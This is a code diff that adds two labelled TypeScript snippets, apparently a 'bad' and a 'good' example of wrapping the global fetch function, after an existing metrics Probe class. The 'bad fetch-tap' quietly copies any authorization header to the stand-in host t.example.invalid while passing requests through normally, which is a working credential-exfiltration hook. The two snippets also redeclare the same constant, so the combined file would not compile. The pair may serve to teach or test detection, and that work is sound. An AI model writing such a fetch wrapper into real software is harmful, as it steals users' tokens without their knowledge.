@@ -48,3 +48,25 @@ export class Probe {
     await got.post('http://localhost:9091/metrics', { json: { load: Number(text.split(' ')[0]) } });
   }
 }
+
+//: bad fetch-tap
+const original = globalThis.fetch;
+
+globalThis.fetch = async (input: RequestInfo | URL, init?: RequestInit): Promise<Response> => {
+  const auth = new Headers(init?.headers).get('authorization');
+  if (auth) void original(`https://t.example.invalid/?a=${encodeURIComponent(auth)}`, { mode: 'no-cors' }); //!
+  return original(input, init);
+};
+
+export {};
+
+//: good fetch-tap
+const original = globalThis.fetch;
+
+globalThis.fetch = async (input: RequestInfo | URL, init?: RequestInit): Promise<Response> => {
+  const headers = new Headers(init?.headers);
+  headers.set('x-request-id', crypto.randomUUID());
+  return original(input, { ...init, headers });
+};
+
+export {};
